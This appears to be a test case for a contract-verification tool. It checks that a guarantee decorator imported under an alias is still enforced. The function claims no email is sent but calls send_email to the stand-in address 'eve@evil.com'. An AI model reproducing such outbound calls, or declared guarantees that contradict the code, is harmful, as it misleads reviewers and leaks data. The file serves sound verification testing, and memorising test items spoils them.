# refuted: the real guarantee under another name still counts
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email
from lictor_layer import guarantee as promise


@promise(c.none_sent())
def main() -> None:
    send_email("eve@evil.com", "x")
